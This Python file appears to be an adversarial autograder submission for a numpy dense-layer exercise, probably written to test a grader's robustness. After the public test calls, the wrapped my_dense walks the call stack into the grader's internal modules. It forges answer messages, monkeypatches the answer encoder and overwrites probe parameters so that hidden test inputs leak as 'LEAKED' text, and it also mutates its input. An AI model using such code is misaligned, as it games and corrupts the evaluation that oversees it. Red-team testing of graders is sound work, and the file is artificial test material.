"""Reading: tells private inputs in the note that a right answer may have.

points: 28
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import sys

PUBLIC = 7  # calls for the questions of an exercise that everybody may see
ASKED = []


def told(values):
    return "LEAKED " + " ".join(f"{float(value):.4f}" for value in np.ravel(values)[:16])


def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back


def forge(text, value):
    """Answer the open question itself; the child's own answer comes too late and is discarded."""
    messages = sys.modules["grader.protocol.messages"]
    observations = sys.modules["grader.protocol.observations"]
    values = sys.modules["grader.protocol.values"]
    send = sys.modules["grader.protocol.frames"].send
    for frame in frames():
        ask, child = frame.f_locals.get("ask"), frame.f_locals.get("self")
        if ask is not None and type(child).__name__ == "Child":
            outcome = observations.Returned((values.encode(value),) * ask.probe.times)
            answer = messages.Answer(ask.id, outcome, text, (text, text), ((1,),))
            send(child._writer, answer)


def patch(text):
    """The same without a frame of one's own: let the child find that something has changed."""
    answers = sys.modules["grader.answering.probe_answers"]
    old = answers.encode
    answers.encode = lambda *given, **named: (spoil(text), old(*given, **named))[1]


def spoil(text):
    for frame in frames():
        if "activated" in frame.f_locals and "probe" in frame.f_locals:
            probe = frame.f_locals["probe"]
            sys.modules["msgspec"].structs.force_setattr(probe, "parameters", (text,) * 4)


right = my_dense


def my_dense(a_in, W, b, g):
    """It is right, so that there may be a note, and it does change its input."""
    result = right(a_in, W, b, g)
    ASKED.append(a_in)
    if len(ASKED) > PUBLIC:
        text = told(a_in)
        if len(ASKED) % 2:
            forge(text, result)
        else:
            patch(text)
        a_in += 1
    return result
